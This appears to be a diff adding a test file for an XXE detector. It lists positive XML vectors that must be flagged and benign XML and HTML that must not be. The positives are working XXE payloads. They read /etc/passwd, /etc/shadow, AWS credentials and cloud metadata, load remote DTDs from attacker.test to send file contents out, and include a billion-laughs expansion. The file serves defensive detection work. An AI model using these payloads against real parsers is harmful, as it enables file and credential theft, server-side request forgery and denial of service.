@@ -1,0 +1,133 @@
+import t from 'tap';
+import { detectXxe } from '../../src/detectors/xxe';
+
+// Test vectors written for this project (not copied from any payload corpus).
+
+/** Each must be detected at confidence `high` with an `xxe.` rule. */
+const positives: string[] = [
+  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/hostname">]><r>&f;</r>',
+  '<!DOCTYPE order [ <!ENTITY secret SYSTEM "file:///home/app/.aws/credentials"> ]><order>&secret;</order>',
+  "<!DOCTYPE a [<!ENTITY b SYSTEM 'http://169.254.169.254/latest/meta-data/'>]><a>&b;</a>",
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "https://collector.attacker.test/x">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "expect://id">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "jar:https://attacker.test/x.jar!/a.txt">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "netdoc:/etc/group">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "gopher://127.0.0.1:6379/_x">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "../../../../etc/shadow">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "notes.txt">]><a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b PUBLIC "-//X//Y//EN" "http://attacker.test/e.xml">]><a>&b;</a>',
+  '<!DOCTYPE a[<!ENTITY b SYSTEM "file:///c:/windows/win.ini">]>',
+  '<!doctype a [<!entity b system "file:///etc/passwd">]>',
+  '<!DOCTYPE a [\n  <!ELEMENT a ANY>\n  <!ENTITY b SYSTEM "file:///proc/self/environ">\n]>\n<a>&b;</a>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts"',
+  '<!ENTITY exfil SYSTEM "file:///etc/passwd">',
+  // Parameter entities (out-of-band).
+  '<!DOCTYPE a [<!ENTITY % dtd SYSTEM "http://attacker.test/evil.dtd"> %dtd;]><a/>',
+  '<!DOCTYPE a [<!ENTITY % p "<!ENTITY q SYSTEM \'file:///x\'>"> %p;]>',
+  '<!DOCTYPE a [ %remote; ]>',
+  '<!ENTITY % all "<!ENTITY send SYSTEM \'http://attacker.test/?%file;\'>">',
+  // External DTD.
+  '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
+  '<!DOCTYPE a SYSTEM "ftp://attacker.test/x.dtd"><a/>',
+  '<!DOCTYPE a SYSTEM "http://attacker.test/x.dtd"><a>&leak;</a>',
+  // Entity expansion (billion laughs).
+  '<!DOCTYPE b [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;&l1;">]><b>&l2;</b>',
+  '<!DOCTYPE b [<!ENTITY x "&y;&y;">]>',
+  // Self-contained DTD with its own text entity (a probe).
+  '<!DOCTYPE probe [<!ENTITY p "marker">]><probe>&p;</probe>',
+  '<?xml version="1.0"?><!DOCTYPE note[<!ENTITY n "x"> ]><note>&n;</note>',
+  // XInclude.
+  '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></doc>',
+  '<xi:include href="/etc/passwd" parse="text"/>',
+  '<r xmlns:inc="http://www.w3.org/2001/XInclude"><inc:include href="secret.txt"/></r>',
+];
+
+/** Each must NOT be detected at `high`. */
+const negatives: string[] = [
+  '<?xml version="1.0" encoding="UTF-8"?><order><id>42</id></order>',
+  '<!DOCTYPE html>',
+  '<!doctype html><html><body>hi</body></html>',
+  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
+  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
+  '<!DOCTYPE html SYSTEM "about:legacy-compat">',
+  '<!DOCTYPE coverage SYSTEM "http://cobertura.sourceforge.net/xml/coverage-04.dtd"><coverage line-rate="0.9"/>',
+  '<!DOCTYPE hibernate-mapping PUBLIC "-//Hibernate/Hibernate Mapping DTD 3.0//EN" "http://www.hibernate.org/dtd/hibernate-mapping-3.0.dtd">',
+  '<!DOCTYPE note SYSTEM "note.dtd"><note><to>Tove</to></note>',
+  '<!DOCTYPE xsl:stylesheet [<!ENTITY nbsp "&#160;">]><xsl:stylesheet/>',
+  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg/>',
+  '<!-- a comment --><root/>',
+  '<![CDATA[ <!ENTITY is just text here ]]>',
+  'a < b and c > d',
+  '<3',
+  'The <!DOCTYPE> declaration must come first.',
+  'XML entities like &amp; and &lt; are predefined.',
+  'Use xi:include to include documents.',
+  '<include file="a.xml"/>',
+  '<p>Tom &amp; Jerry</p>',
+  '<svg xmlns="http://www.w3.org/2000/svg"><text>&#169; 2024</text></svg>',
+  "O'Brien",
+  'https://example.com/path?x=1',
+];
+
+t.test('XXE vectors are detected at high confidence', async (t) => {
+  for (const v of positives) {
+    const d = detectXxe(v);
+    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+    t.ok(d !== undefined && d.rule.startsWith('xxe.'), `rule prefix: ${JSON.stringify(v)}`);
+  }
+});
+
+t.test('benign XML and HTML are not high', async (t) => {
+  for (const v of negatives) {
+    const d = detectXxe(v);
+    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+  t.equal(detectXxe('<!DOCTYPE html>'), undefined);
+  t.equal(detectXxe('<root><a>1</a></root>'), undefined);
+  t.equal(detectXxe('plain text'), undefined);
+});
+
+t.test('rules name the structure', async (t) => {
+  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>')?.rule, 'xxe.external-entity');
+  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY % b SYSTEM "http://x/y">]>')?.rule, 'xxe.parameter-entity');
+  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY b "&c;&c;">]>')?.rule, 'xxe.entity-expansion');
+  t.equal(detectXxe('<xi:include href="x"/>')?.rule, 'xxe.xinclude');
+  t.equal(detectXxe('<!DOCTYPE a SYSTEM "file:///x">')?.rule, 'xxe.external-dtd');
+  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY b "text">]>')?.rule, 'xxe.internal-entity');
+  t.equal(detectXxe('<!DOCTYPE note SYSTEM "note.dtd">')?.confidence, 'medium');
+  t.equal(detectXxe('<!DOCTYPE x PUBLIC "-//A//B//EN" "http://a.example/b.dtd" [<!ENTITY e "v">]>')?.confidence, 'medium');
+  t.equal(detectXxe('<!DOCTYPE x [<!ENTITY nbsp "&#160;">]>')?.confidence, 'low');
+});
+
+t.test('reasons are short and do not echo the input', async (t) => {
+  const d = detectXxe('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///' + 'a'.repeat(500) + '">]>');
+  t.equal(d?.confidence, 'high');
+  t.ok((d?.reason.length ?? 0) < 200);
+  t.notMatch(d?.reason ?? '', /a{40}/);
+});
+
+t.test('degenerate inputs never throw', async (t) => {
+  const odd = ['', '<', '<!', '<!DOCTYPE', '<!DOCTYPE ', '<!DOCTYPE a [', '<!DOCTYPE a [<!ENTITY', '<!ENTITY %', '<!ENTITY a "', "<!ENTITY a SYSTEM '", ':include', '<:include', '\ud800<!DOCTYPE a [', '<!DOCTYPE a PUBLIC'];
+  for (const v of odd) t.doesNotThrow(() => detectXxe(v), JSON.stringify(v));
+});
+
+t.test('adversarial 1 MB inputs return without throwing', async (t) => {
+  const MB = 1 << 20;
+  const big: Record<string, string> = {
+    lts: '<'.repeat(MB),
+    bangs: '<!'.repeat(MB / 2),
+    doctypes: '<!DOCTYPE '.repeat(MB / 10),
+    entities: '<!DOCTYPE a ['.concat('<!ENTITY x "'.repeat(MB / 12)),
+    refs: '<!DOCTYPE a [<!ENTITY x "' + '&a;'.repeat(MB / 4) + '">]>',
+    percents: '<!DOCTYPE a [' + '%'.repeat(MB) + ']>',
+    includes: '<a:include'.repeat(MB / 10),
+    colons: ':include'.repeat(MB / 8),
+    quotes: '<!DOCTYPE a SYSTEM "' + '"'.repeat(MB),
+    amps: '<!DOCTYPE a SYSTEM "http://x/y">' + '&'.repeat(MB),
+    surrogates: '<!DOCTYPE a [' + '\ud800'.repeat(MB),
+  };
+  for (const [name, v] of Object.entries(big)) {
+    t.doesNotThrow(() => detectXxe(v), name);
+  }
+});
